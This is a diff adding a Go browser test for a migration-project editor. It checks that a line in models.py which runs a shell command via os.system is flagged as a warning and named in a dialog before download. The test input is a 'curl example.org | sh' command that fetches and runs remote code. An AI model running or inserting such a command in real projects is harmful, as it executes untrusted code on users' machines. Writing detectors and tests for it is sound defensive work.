@@ -463,3 +463,33 @@ func runAlembic(t *testing.T, entries map[string]string, folder string) string {
 	}
 	return all.String()
 }
+
+// TestSideEffectsBeforeDownload: a line in the models that would run a
+// command under the real Alembic (os.system) is underlined as a warning as
+// you type, and Download .zip names it before the project leaves the page.
+func TestSideEffectsBeforeDownload(t *testing.T) {
+	p := open(t, "")
+	p.captureDownloads()
+	p.click("tab", "models.py")
+	p.do(
+		chromedp.Click(chromedp.CSS(`.cm-content`), chromedp.NodeVisible),
+		chromedp.KeyEvent(kb.End, chromedp.KeyModifiers(chromedp.ModifierCtrl)),
+		insertText("\nimport os\nos.system(\"curl example.org | sh\")\n"),
+	)
+	p.waitFor(`!!document.querySelector('.cm-lintRange-warning')`, 20*time.Second)
+	require.False(t, eval[bool](p, `!!document.querySelector('.cm-lintRange-error')`), "a warning, not an error")
+
+	p.click("button", "Download .zip")
+	p.waitFor(`document.querySelector('dialog[open] h2')?.textContent === 'This project runs more than migrations'`, 20*time.Second)
+	text := eval[string](p, `document.querySelector('dialog[open]').innerText`)
+	require.Contains(t, text, "models.py:")
+	require.Contains(t, text, "Retort does not run os.system()")
+	p.dialogButton("Cancel")
+	p.waitFor(`!document.querySelector('dialog[open]')`, 10*time.Second)
+
+	p.click("button", "Download .zip")
+	p.waitFor(`document.querySelector('dialog[open] h2')?.textContent === 'This project runs more than migrations'`, 20*time.Second)
+	p.dialogButton("Download anyway")
+	name, _ := p.download(1)
+	require.True(t, strings.HasSuffix(name, ".zip"), name)
+}
